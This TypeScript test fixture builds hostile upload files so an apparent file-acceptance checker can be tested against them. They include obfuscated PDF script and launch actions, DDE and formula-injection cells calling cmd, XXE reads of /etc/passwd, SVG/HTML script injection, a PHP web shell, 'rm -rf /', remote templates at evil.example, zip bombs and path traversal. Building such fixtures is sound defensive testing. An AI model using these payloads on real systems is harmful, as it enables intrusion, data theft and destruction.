/** Files as an attacker, or a tired phone, would send them; made in memory. For tests. */
import { deflateSync } from 'node:zlib';
import { archiveOf } from '../sheet/hostile-sheets.fixture.ts';
import { strToU8, zipSync, type Zippable } from 'fflate';
import sharp from 'sharp';

const solid = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: { r: 200, g: 40, b: 40 } } });

export const honestPng = (width = 64, height = 48): Promise<Buffer> => solid(width, height).png().toBuffer();
export const honestJpeg = (width = 64, height = 48): Promise<Buffer> => solid(width, height).jpeg().toBuffer();
export const honestPdf = (): Buffer =>
  Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');

const CONTENT_TYPES = strToU8('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>');
export const office = (parts: Zippable): Buffer => Buffer.from(zipSync({ '[Content_Types].xml': CONTENT_TYPES, ...parts }));
export const honestXlsx = (): Buffer => office({ 'xl/workbook.xml': strToU8('<workbook/>'), 'xl/worksheets/sheet1.xml': strToU8('<worksheet/>') });
export const honestDocx = (): Buffer => office({ 'word/document.xml': strToU8('<document/>') });

/** A png whose header promises `width` × `height` while its body holds next to nothing. */
export function lyingPng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const framed = Buffer.alloc(body.length + 8);
    framed.writeUInt32BE(data.length, 0);
    body.copy(framed, 4);
    framed.writeUInt32BE(crc32(body), body.length + 4);
    return framed;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(1000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}

const SCRIPT = '<script>alert(1)</script>';
const svg = (inner: string, attributes = '') => `<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${inner}</svg>`;

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
/** A docx or xlsx whose main part has one relation. */
export const related = (main: 'word/document.xml' | 'xl/workbook.xml', type: string, target: string, mode = ' TargetMode="External"'): Buffer =>
  office({
    [main]: strToU8('<x/>'),
    [main.replace(/([^/]+)$/, '_rels/$1.rels')]: strToU8(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${type.includes(':') ? type : `${RELATIONS}/${type}`}" Target="${target}"${mode}/></Relationships>`,
    ),
  });

/** A pdf of one catalogue with `entries` in it and `more` objects behind it. */
export const pdfOf = (entries: string, more: string | Buffer = ''): Buffer =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${entries}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n`, 'latin1'),
    Buffer.from(more),
    Buffer.from('\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ]);

/** Objects packed into a stream, as pdf 1.5 has them; `pack` as it is stored. */
export function objectStream(objects: string, dictionary = '/Type/ObjStm/Filter/FlateDecode', pack: (bytes: Buffer) => Buffer = deflateSync): Buffer {
  const packed = pack(Buffer.from(`5 0 ${objects}`));
  return Buffer.concat([Buffer.from(`4 0 obj<<${dictionary}/N 1/First 4/Length ${packed.length}>>stream\r\n`), packed, Buffer.from('\nendstream endobj\n')]);
}

/** What is drawn on a page, or a picture on it. */
const pageOf = (filter: string, packed: Buffer): Buffer =>
  Buffer.concat([Buffer.from(`4 0 obj<<${filter}/Length ${packed.length}>>stream\n`), packed, Buffer.from('\nendstream endobj\n')]);

const SCRIPTED = '<</S/JavaScript/JS(app.alert(1))>>';

/** Documents that do something by themselves, each told in its own way. */
function activeDocuments(): Record<string, Buffer> {
  return {
    'pdf with /J#61vaScript': pdfOf('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>'),
    'pdf with every letter of JavaScript written as a number': pdfOf(
      `/OpenAction<</S/${[...'JavaScript'].map((sign) => `#${sign.charCodeAt(0).toString(16)}`).join('')}>>`,
    ),
    'pdf with /L#61unch': pdfOf('/OpenAction<</S/L#61unch/F(cmd.exe)>>'),
    'pdf with a script in packed objects': pdfOf('/OpenAction 5 0 R', objectStream(SCRIPTED)),
    'pdf with a coded script in packed objects': pdfOf('/OpenAction 5 0 R', objectStream('<</S/J#61v#61Script/JS(1)>>')),
    'pdf with packed objects called otherwise': pdfOf('/OpenAction 5 0 R', objectStream(SCRIPTED, '/Type/Obj#53tm/F#69lter/Fl')),
    'pdf with packed objects of no type': pdfOf('/OpenAction 5 0 R', objectStream(SCRIPTED, '/Filter/FlateDecode')),
    'pdf with objects packed twice': pdfOf(
      '/OpenAction 5 0 R',
      objectStream(SCRIPTED, '/Type/ObjStm/Filter[/FlateDecode/FlateDecode]', (bytes) => deflateSync(deflateSync(bytes))),
    ),
    'pdf with objects in letters': pdfOf(
      '/OpenAction 5 0 R',
      objectStream(SCRIPTED, '/Type/ObjStm/Filter/ASCIIHexDecode', (bytes) => Buffer.from(`<${bytes.toString('hex')}>`)),
    ),
    'pdf with encrypted objects': pdfOf(
      '/Encrypt 9 0 R',
      objectStream(SCRIPTED, '/Type/ObjStm/Filter/FlateDecode', (bytes) => Buffer.from(deflateSync(bytes).map((byte) => byte ^ 0x5a))),
    ),
    'pdf with packed objects cut short': pdfOf(
      '/OpenAction 5 0 R',
      objectStream(`${SCRIPTED}${' x'.repeat(5000)}`, '/Type/ObjStm/Filter/FlateDecode', (bytes) => deflateSync(bytes).subarray(0, -6)),
    ),
    'pdf with a script within a stream of plain text': pdfOf('', '3 0 obj<</Length 60>>stream\n9 0 obj<</S/JavaScript/JS(1)>>endobj\nendstream endobj'),
    'pdf with a script behind a stream in a remark': pdfOf('', `% stream\n9 0 obj${SCRIPTED}endobj`),
    'pdf that sends its form': pdfOf('/AcroForm<</Fields[<</A<</S/SubmitForm/F(http://evil.example)>>>>]>>'),
    'pdf with a form of its own language': pdfOf('/AcroForm<</XFA[(template) 9 0 R]>>'),
    'pdf that takes data in': pdfOf('/OpenAction<</S/ImportData/F(x.fdf)>>'),
    'pdf with a file in it': pdfOf('/Names<</EmbeddedFiles<</Names[(a.exe) 9 0 R]>>>>'),
    'pdf that opens a file in it': pdfOf('/OpenAction<</S/GoToE/T<</R/C>>>>'),
    'pdf that opens another file': pdfOf('/OpenAction<</S/GoToR/F(\\\\evil.example\\x.pdf)>>'),
    'pdf with actions of its pages': pdfOf('/AA<</WC<</S/Named/N/Print>>>>'),
    'pdf that plays': pdfOf('/OpenAction<</S/Rendition/OP 0>>'),
    'pdf with a rich medium': pdfOf('', '3 0 obj<</Subtype/RichMedia>>endobj'),
    'docx with a template from outside': related('word/document.xml', 'attachedTemplate', 'http://evil.example/x.dotm'),
    'docx with a template from outside in coded letters': related(
      'word/document.xml',
      'attachedTemplate',
      'http://evil.example/x.dotm',
      ' TargetMode="Ext&#101;rnal"',
    ),
    'docx with a template within': related('word/document.xml', 'attachedTemplate', 'template.dotx', ''),
    'docx with a picture from outside': related('word/document.xml', 'image', 'http://evil.example/x.png'),
    'docx with a frame from outside': related('word/document.xml', 'frame', 'http://evil.example/'),
    'docx with an object from outside': related('word/document.xml', 'oleObject', 'http://evil.example/x'),
    'docx with a link to a share': related('word/document.xml', 'hyperlink', 'file://evil.example/share/x.lnk'),
    'docx with a link that is a script': related('word/document.xml', 'hyperlink', 'javascript:alert(1)'),
    'xlsx with a workbook from outside': related('xl/workbook.xml', 'externalLinkPath', 'http://evil.example/x.xlsx'),
    'docx with an object beside': office({ 'word/document.xml': strToU8('<x/>'), 'word/oleObject1.bin': strToU8('x') }),
    'docx with activeX': office({ 'word/document.xml': strToU8('<x/>'), 'word/activeX/activeX1.xml': strToU8('<x/>') }),
    'docx with macros by its types': Buffer.from(
      zipSync({
        'word/document.xml': strToU8('<x/>'),
        'word/v.bin': strToU8('x'),
        '[Content_Types].xml': strToU8('<Types><Override PartName="/word/v.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
      }),
    ),
    'docx with relations in UTF-16': office({
      'word/document.xml': strToU8('<x/>'),
      'word/_rels/document.xml.rels': Buffer.from('\uFEFF<Relationships/>', 'utf16le'),
    }),
    'docx with relations in another alphabet': office({
      'word/document.xml': strToU8('<x/>'),
      'word/_rels/document.xml.rels': Buffer.from('<?xml version="1.0" encoding="UTF-7"?><Relationships/>'),
    }),
    'docx with relations that declare entities': office({
      'word/document.xml': strToU8('<x/>'),
      'word/_rels/document.xml.rels': Buffer.from('<!DOCTYPE r [<!ENTITY e "External">]><Relationships/>'),
    }),
    'docx with a field that asks a program': office({
      'word/document.xml': strToU8('<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/>'),
    }),
    'docx with such a field in several runs': office({
      'word/document.xml': strToU8('<w:p><w:instrText xml:space="preserve"> DD</w:instrText><w:t>x</w:t><w:instrText>EAU&#84;O cmd</w:instrText></w:p>'),
    }),
    'docx with such a field in its head': office({ 'word/document.xml': strToU8('<x/>'), 'word/header1.xml': strToU8('<w:instrText>DDE cmd</w:instrText>') }),
    'xlsx with a formula that asks a program': office({
      'xl/workbook.xml': strToU8('<x/>'),
      'xl/worksheets/sheet1.xml': strToU8("<sheetData><c><f>cmd|'/C calc'!A0</f></c></sheetData>"),
    }),
    'docx that declares an external entity': office({
      'word/document.xml': strToU8('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'),
    }),
    'xlsx that declares entities in UTF-16': office({
      'xl/workbook.xml': strToU8('<x/>'),
      'xl/sharedStrings.xml': Buffer.from('\uFEFF<!DOCTYPE s [<!ENTITY a "ha">]><sst/>', 'utf16le'),
    }),
    'docx that lies about its sizes': archiveOf([
      { name: '[Content_Types].xml', data: strToU8('<x/>') },
      { name: 'word/document.xml', data: strToU8(' '.repeat(5_000_000)), unpacked: 200 },
    ]),
    'pdf with a page packed twice': pdfOf('', pageOf('/Filter[/FlateDecode/Fl#61teDecode]', deflateSync(deflateSync(Buffer.alloc(50_000_000))))),
    'docx with two relations of one name': archiveOf(
      ['[Content_Types].xml', 'word/document.xml', 'word/_rels/document.xml.rels', 'word/_rels/Document.xml.rels'].map((name) => ({
        name,
        data: strToU8('<x/>'),
      })),
    ),
    'docx that is encrypted inside': archiveOf(['[Content_Types].xml', 'word/document.xml'].map((name) => ({ name, data: strToU8('<x/>'), flags: 1 }))),
    'docx whose entries share their bytes': archiveOf([
      { name: '[Content_Types].xml', data: strToU8('<x/>') },
      { name: 'word/document.xml', data: strToU8('<x/>'), offset: 0 },
    ]),
  };
}

/** Small files that unfold to much: making them takes seconds. */
function costlyFiles(): Record<string, Buffer> {
  const megabyte = Buffer.alloc(1024 * 1024);
  return {
    'pdf with a page that unfolds to 600 MB': pdfOf('', pageOf('/Filter/FlateDecode', deflateSync(Buffer.alloc(600 * 1024 * 1024)))),
    'a text that unfolds to 300 MB': office({ 'word/document.xml': Buffer.alloc(300 * 1024 * 1024, 32) }),
    'pdf with packed objects beyond 50 MB': pdfOf('', objectStream(' '.repeat(60 * 1024 * 1024))),
    'a sheet that unfolds to 110 MB': office({
      'xl/workbook.xml': strToU8('<workbook/>'),
      ...Object.fromEntries(Array.from({ length: 110 }, (_, n) => [`xl/media/${n}`, megabyte])),
    }),
    'content types that unfold to 110 MB': Buffer.from(zipSync({ 'xl/workbook.xml': strToU8(''), '[Content_Types].xml': Buffer.alloc(110 * 1024 * 1024) })),
    'a sheet of 3,000 entries': office({
      'xl/workbook.xml': strToU8(''),
      ...Object.fromEntries(Array.from({ length: 3000 }, (_, n) => [`xl/media/${n}`, new Uint8Array()])),
    }),
  };
}

/** What must be refused, whatever name and type it comes under. */
export async function hostileFiles({ costly = true } = {}): Promise<Record<string, Buffer>> {
  const texts: Record<string, string> = {
    'svg with a script': svg(SCRIPT),
    'svg with a handler': svg('', 'onload="alert(1)"'),
    'svg with foreignObject': svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</body></foreignObject>`),
    'svg with an external entity': `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
    'svg using an outside drawing': svg('<use href="http://evil.example/x.svg#a"/>'),
    'an honest svg': svg('<circle r="4"/>'),
    'html named as a picture': `<!doctype html><html>${SCRIPT}</html>`,
    'html behind blanks': `${' '.repeat(4000)}<html>${SCRIPT}</html>`,
    'xml with a stylesheet': '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><a/>',
    mhtml: 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<script>1</script>',
    'a shell script': '#!/bin/sh\nrm -rf /\n',
    'a php page': '<?php system($_GET["c"]);',
    javascript: 'alert(1)',
    'plain text': '你好',
    csv: '=cmd|calc!A1,1\n',
    'billion laughs': '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
    'pdf with javascript': '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF',
    'pdf that starts a program': '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n%%EOF',
    'a picture’s first bytes before html': `GIF89a/*${SCRIPT}*/=1;`,
    swf: 'CWS\u000a\u0000\u0000',
  };
  const png = await honestPng();
  const jpeg = await honestJpeg(400, 300);
  return {
    ...Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, Buffer.from(text)])),
    ...activeDocuments(),
    'an empty archive': Buffer.from(zipSync({})),
    'a plain archive': Buffer.from(zipSync({ 'a.txt': strToU8('a') })),
    'an archive in an archive': Buffer.from(zipSync({ 'xl.zip': zipSync({ 'xl/workbook.xml': strToU8('') }) })),
    ...(costly ? costlyFiles() : {}),
    'a sheet that climbs out of its folder': office({ 'xl/workbook.xml': strToU8(''), '../../evil.sh': strToU8('#!') }),
    'a sheet with an absolute path': office({ 'xl/workbook.xml': strToU8(''), '/etc/cron.d/x': strToU8('#!') }),
    'a sheet with macros': office({ 'xl/workbook.xml': strToU8(''), 'xl/vbaProject.bin': strToU8('x') }),
    'a sheet with outside links': office({ 'xl/workbook.xml': strToU8(''), 'xl/externalLinks/externalLink1.xml': strToU8('x') }),
    'a text with an embedded program': office({ 'word/document.xml': strToU8(''), 'word/embeddings/oleObject1.bin': strToU8('x') }),
    'an archive cut short': honestXlsx().subarray(0, 200),
    'an old or encrypted office file': Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(2048)]),
    'a Windows program': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(1000)]),
    'a Linux program': Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(1000)]),
    'a png of 60,000 × 60,000': lyingPng(60_000, 60_000),
    'a png of 1 × 1,000,000': lyingPng(1, 1_000_000),
    'a png of 41 megapixels': lyingPng(8_200, 5_000),
    'a png with a lying header': lyingPng(4_000, 3_000),
    'a png cut short': png.subarray(0, png.length - 30),
    'a jpeg cut in half': jpeg.subarray(0, jpeg.length >> 1),
    'only the first bytes of a jpeg': Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
    'a png of noise': Buffer.concat([png.subarray(0, 33), Buffer.alloc(500, 7)]),
  };
}
